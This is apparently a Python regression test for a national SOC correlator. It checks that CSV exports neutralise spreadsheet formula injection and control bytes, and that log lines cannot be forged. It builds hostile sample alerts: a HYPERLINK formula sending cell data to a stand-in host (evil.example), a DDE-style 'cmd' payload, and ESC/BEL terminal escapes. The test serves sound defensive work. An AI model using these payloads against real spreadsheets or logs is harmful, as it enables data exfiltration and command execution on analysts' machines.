#!/usr/bin/env python3
"""Regression (issue 15, item 6): CSV formula injection.

A province's alert reaches the national database as it was sent, and
`socctl incidents --csv` wrote its cells straight out: a rule name
`=HYPERLINK(...)` became a live formula in the analyst's spreadsheet,
with raw ESC/BEL bytes.  Here a REAL national soc-correlator receives one
hostile alert over CURVE from a province written in Python (the encoder of
test_national.py), and `socctl incidents --csv` and `socctl report --csv`
are read back from that real database:

- every text cell that starts with =, +, -, @ (or started with a tab or
  CR) is prefixed with ' (OWASP), so no cell starts with a formula
  character;
- no control byte (ESC, BEL, CR, LF, tab, C1) is left in any cell;
- numeric columns stay numbers (count, report figures), and --json still
  carries the text exactly as received (only CSV is neutralised).
The same real correlator also proves issue 15 item 5 end to end: a second
alert whose rule.name holds a newline and a forged
"soc-correlator: warning: ..." line is logged by the correlator as one
line, the newline written as \x0a, and ESC/BEL as \x1b/\x07.
No timed asserts: waits end on the awaited reply, with a generous ceiling."""
import csv
import io
import json
import os
import shutil
import subprocess
import sys
import tempfile

from soctest import (CORR, SOCCTL, SRC, check, done, free_port, run,
                     sanitizer_clean, stop, wait_port, wait_until)
import test_national as tn

FORMULA = "=+-@"
CONTROLS = set(chr(c) for c in range(0x20)) | {"\x7f"} | set(
    chr(c) for c in range(0x80, 0xa0))


def hostile_alert(inc):
    a = json.loads(tn.alert(inc, 1, 7, "high", "new"))
    a["rule.name"] = '=HYPERLINK("http://evil.example/x?d="&A1,"\x1b]0;pwn\x07Chi tiết")'
    a["soc.incident.group_key"] = "+cmd|' /C calc'!A0"
    a["rule.id"] = "@SUM(1+1)"
    a["soc.origin.name"] = "lamdong-soc"
    return json.dumps(a, ensure_ascii=False)


FORGED = "soc-correlator: warning: all sensors healthy, nothing to see"


def forging_alert(inc):
    a = json.loads(tn.alert(inc, 1, 1, "low", "new"))
    a["rule.name"] = "SSH brute force\n" + FORGED + "\x1b]0;pwn\x07"
    return json.dumps(a, ensure_ascii=False)


def cells_safe(name, text):
    rows = list(csv.reader(io.StringIO(text, newline="")))
    check(len(rows) >= 2, f"{name}: a header and rows: {text!r}")
    for r in rows[1:]:
        for c in r:
            check(c == "" or c[0] not in FORMULA + "\t\r",
                  f"{name}: a cell starts with a formula character: {c!r}")
            check(not (set(c) & CONTROLS),
                  f"{name}: a control byte in a cell: {c!r}")
    return rows


def main():
    tmp = tempfile.mkdtemp(prefix="soc-csv-")
    db = os.path.join(tmp, "national.db")
    ctl = lambda *a, **kw: run(SOCCTL, "--db", db, *a, **kw)
    for name in ("national", "lamdong-soc"):
        ctl("keygen", "--out", os.path.join(tmp, name))
    # an agency name written by an operator can be hostile too
    ctl("agency", "add", "lamdong", "--name", "-Lâm Đồng\t=1+1")
    ctl("sensor", "enroll", "lamdong-soc", "--agency", "lamdong", "--key",
        os.path.join(tmp, "lamdong-soc.pub"))
    rules = os.path.join(tmp, "rules")
    os.mkdir(rules)
    shutil.copy(os.path.join(SRC, "rules", "mapping.yml"), rules)
    port = free_port()
    endpoint = f"tcp://127.0.0.1:{port}"
    err = open(os.path.join(tmp, "correlator.err"), "w+")
    corr = subprocess.Popen([CORR, "--db", db, "--rules", rules, "--key",
                             os.path.join(tmp, "national.key"), "--bind", endpoint],
                            stdout=err, stderr=subprocess.STDOUT)
    zctx = tn.zmq.Context()
    try:
        # our correlator, not whatever took the port after free_port
        listening = lambda: "listening on" in open(err.name, errors="replace").read()
        if not check(wait_port(port, corr) and (wait_until(
                lambda: listening() or corr.poll() is not None,
                "the correlator says it listens") and listening()), "national correlator listens"):
            # (its port taken between free_port and the bind): stop here,
            # not wait out every reply until the meson timeout
            print(open(err.name, errors="replace").read()[-3000:], file=sys.stderr)
            raise SystemExit(done())
        p = tn.Province(zctx, endpoint, os.path.join(tmp, "lamdong-soc"),
                        tn.key_of(os.path.join(tmp, "national.pub")))
        b = tn.batch(tn.ALERTS, 1, [tn.blob(hostile_alert(4711))])
        check(p.send(b) == (tn.ACK, 1), "the hostile alert is acked")
        b = tn.batch(tn.ALERTS, 2, [tn.blob(forging_alert(4712))], prev=1)
        check(p.send(b) == (tn.ACK, 2), "the forging alert is acked")
        p.close()
        js = [i for i in json.loads(ctl("incidents", "--json").stdout)
              if i.get("origin", {}).get("incident_id") == 4711]
        check(len(js) == 1, f"the national incident: {js}")
        title = js[0].get("rule", {}).get("title") or js[0].get("rule", {}).get("name") if js else None
        check(title is not None and title.startswith("=HYPERLINK"),
              f"--json keeps the text as received: {js}")

        out = ctl("incidents", "--csv").stdout
        rows = cells_safe("incidents --csv", out)
        head = rows[0]
        mine = [r for r in rows[1:] if "4711" in ",".join(r)]
        row = dict(zip(head, mine[0])) if mine else {}
        joined = ",".join(mine[0]) if mine else ""
        check("'=HYPERLINK(" in joined,
              f"the formula is kept as text behind a quote: {joined!r}")
        check(row.get("group_key", "").startswith("'+cmd"),
              f"group_key neutralised: {row.get('group_key')!r}")
        check("]0;pwn" in joined and "\x1b" not in out and "\x07" not in out,
              f"ESC and BEL stripped: {joined!r}")
        check(row.get("count") == "7", f"count stays a number: {row.get('count')!r}")

        out = ctl("report", "--since", "3650d", "--csv").stdout
        rows = cells_safe("report --csv", out)
        names = [dict(zip(rows[0], r)).get("name") for r in rows[1:]]
        check("'-Lâm Đồng =1+1" in names,
              f"report --csv: agency name neutralised: {names!r}")
    finally:
        stop(corr)
        # destroy, not term: a socket an exception left open would make
        # term() wait forever, a failure turned into the test's timeout
        zctx.destroy(linger=0)
        err.seek(0)
        log = err.read()
        sanitizer_clean(log, "correlator")
        err.close()
    # item 5: the province's rule name did not forge a line of its own
    lines = log.split("\n")
    check(not any(l.startswith(FORGED[:30]) for l in lines),
          f"no forged line in the correlator's log: {log!r}")
    check(any("SSH brute force\\x0a" + FORGED in l and "\\x1b]0;pwn\\x07" in l
              for l in lines),
          f"the rule name logged on one line, escaped: {log!r}")
    check("\x1b" not in log and "\x07" not in log, "no raw ESC/BEL in the log")
    if not tn.done_failed():
        shutil.rmtree(tmp, ignore_errors=True)
    return done()


if __name__ == "__main__":
    sys.exit(main())
